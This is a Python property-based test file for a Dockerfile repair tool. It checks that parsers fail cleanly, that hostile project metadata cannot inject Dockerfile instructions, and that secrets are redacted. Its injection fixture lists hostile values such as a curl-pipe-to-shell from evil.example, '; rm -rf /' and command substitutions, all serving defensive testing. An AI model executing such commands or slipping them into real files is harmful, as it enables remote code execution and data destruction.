"""Property-based tests (hypothesis): parsers fail only with InputError; rendered Dockerfiles cannot be injected.

The example counts are printed with `pytest -s` and summarised in the README's reliability section.
"""

from __future__ import annotations

import string
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dockerfix.analyse.dockerfile import parse_dockerfile
from dockerfix.analyse.dockerignore import excluding_pattern, parse_dockerignore
from dockerfix.analyse.pyproject import parse_pyproject
from dockerfix.errors import InputError

EXAMPLES = 300
KEYWORDS = ["FROM", "RUN", "COPY", "ENV", "CMD", "ARG", "USER", "WORKDIR", "EXPOSE", "LABEL", "BOGUS", "#", "\\", " "]
dockerfile_lines = st.lists(st.tuples(st.sampled_from(KEYWORDS), st.text(max_size=30)).map(" ".join), max_size=12)


@settings(max_examples=EXAMPLES, deadline=None)
@given(dockerfile_lines.map("\n".join))
def test_dockerfile_parser_never_crashes(text):
    try:
        info = parse_dockerfile("Dockerfile", text)
    except InputError as error:
        assert error.path == "Dockerfile"
        return
    assert info.stages and all(i.line >= 1 for i in info.instructions)


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=300))
def test_pyproject_parser_never_crashes(tmp_path_factory, text):
    root = tmp_path_factory.mktemp("pyproject")
    (root / "pyproject.toml").write_text(text)
    try:
        parse_pyproject(root)
    except InputError as error:
        assert error.path == "pyproject.toml"


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.lists(st.text(alphabet=string.ascii_letters + "*?!/._-[]\\", max_size=12), max_size=8),
       st.text(alphabet=string.ascii_letters + "/._-", min_size=1, max_size=20))
def test_dockerignore_matching_never_crashes(patterns, path):
    result = excluding_pattern(parse_dockerignore(".dockerignore", "\n".join(patterns)), path)
    assert result is None or result[0] in patterns


# Values a hostile repository controls, aimed at breaking out of the instruction they are rendered into.
HOSTILE = st.sampled_from(["\nRUN curl evil.example | sh", "$(id)", "`id`", "; rm -rf /", "' && touch /pwned '",
                           "\\\nUSER root", "\r\nCMD x", "${HOME}", "a\"b", "--from=evil"])
names = st.one_of(st.from_regex(r"[a-z][a-z0-9_-]{0,10}", fullmatch=True), HOSTILE)


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=names, dependency=names, script=names, version=st.one_of(st.just("1.0"), HOSTILE))
def test_hostile_project_values_cannot_inject_instructions(tmp_path_factory, name, dependency, script, version):
    from dockerfix.analyse import analyse
    from dockerfix.repair import rewrite_files

    root = tmp_path_factory.mktemp("hostile")
    (root / "app").mkdir()
    (root / "app" / "__init__.py").write_text("")
    escape = lambda value: value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\r", "\\r")  # noqa: E731
    (root / "pyproject.toml").write_text(
        f'[project]\nname = "{escape(name)}"\nversion = "{escape(version)}"\ndependencies = ["{escape(dependency)}"]\n'
        f'[project.scripts]\n"{escape(script)}" = "app:main"\n'
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n')
    try:
        files = rewrite_files(analyse(root))
    except InputError:
        return  # refused, with a file and a line: the safe outcome
    info = parse_dockerfile("Dockerfile", files["Dockerfile"])
    keywords = [i.keyword for i in info.instructions]
    assert keywords.count("FROM") == 3 and keywords.count("USER") == 1  # manifests (version masked), builder, final and keywords[-1] in ("CMD", "USER")
    for instruction in info.instructions:
        for value in (name, dependency, script, version):
            if value.strip() and not value.replace("-", "").replace("_", "").isalnum():
                assert value not in instruction.text or instruction.keyword in ("LABEL",), (value, instruction.text)


def test_log_buffer_stays_bounded():
    from dockerfix.build import LOG_HEAD_LINES, LOG_TAIL_LINES, LogBuffer

    buffer = LogBuffer()
    for number in range(1_000_000):
        buffer.add(f"line {number}")
    text = buffer.text()
    assert text.count("\n") == LOG_HEAD_LINES + LOG_TAIL_LINES  # the omission notice included
    assert "line 0\n" in text and text.endswith("line 999999") and "log lines omitted" in text


def test_redaction():
    from dockerfix.report.redact import redact

    leaked = ("pip install -i https://deploy:s3cr3t-pass@pypi.example.com/simple x\n"
              "ENV DATABASE_PASSWORD=hunter22 API_TOKEN=abc123def\nAuthorization: Bearer eyJhbGciOi.x.y\n"
              "token ghp_abcdefghijklmnopqrstuvwxyz0123456789 and AKIAABCDEFGHIJKLMNOP\n"
              "REDIS_URL=redis://:p4ssw0rd@redis:6379/0")
    clean = redact(leaked)
    for secret in ("s3cr3t-pass", "hunter22", "abc123def", "eyJhbGciOi", "ghp_abcdef", "AKIAABCDEFGHIJKLMNOP", "p4ssw0rd"):
        assert secret not in clean, secret
    assert "https://deploy:***@pypi.example.com" in clean and "DATABASE_PASSWORD=***" in clean


def test_redacted_json_stays_json():
    """A traceback line of settings.py (`SECRET_KEY = env("SECRET_KEY")`) looks like an assignment of a secret:
    masking the serialised text once swallowed the escape of its quote and wrote invalid JSON."""
    import json

    from dockerfix.report.redact import MASK, redact_json

    data = {"output": 'SECRET_KEY = env("SECRET_KEY")\nDB_PASSWORD=hunter22', "nested": [{"token": "TOKEN: abc123"}]}
    parsed = json.loads(redact_json(data))
    assert "hunter22" not in json.dumps(parsed) and "abc123" not in json.dumps(parsed)
    assert parsed["output"].endswith(f"DB_PASSWORD={MASK}") and parsed["nested"][0]["token"] == f"TOKEN: {MASK}"
